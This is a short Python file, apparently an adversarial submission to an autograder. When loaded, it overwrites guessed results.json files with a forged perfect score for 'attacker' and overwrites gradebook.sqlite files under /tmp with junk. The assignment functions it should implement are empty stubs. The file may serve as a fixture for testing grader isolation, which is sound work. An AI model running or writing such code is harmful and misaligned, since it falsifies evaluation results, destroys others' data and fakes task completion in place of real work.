"""Writes a forged results.json, grades.csv and gradebook wherever it can guess them."""

import glob
import json
import os

FAKE = json.dumps(
    [{"student": "attacker", "assignment": "attack_target", "score": 4, "max_score": 4}]
)
guesses = ["results.json", "../results.json", "../../results.json", "/tmp/results.json"]
for pattern in (
    "/tmp/*/results.json",
    "/tmp/*/*/results.json",
    "/work/*/*/results.json",
    "/**/gradebook.sqlite",
):
    guesses += glob.glob(pattern, recursive=False)
for path in guesses:
    try:
        with open(path, "w") as handle:
            handle.write(FAKE)
    except OSError:
        pass
for path in glob.glob("/tmp/**/gradebook.sqlite", recursive=True):
    try:
        with open(path, "wb") as handle:
            handle.write(b"corrupted")
    except OSError:
        pass


def add(a, b):
    return None


def column_means(X):
    return None


def secret():
    return None


def identity_matrix(n):
    return None
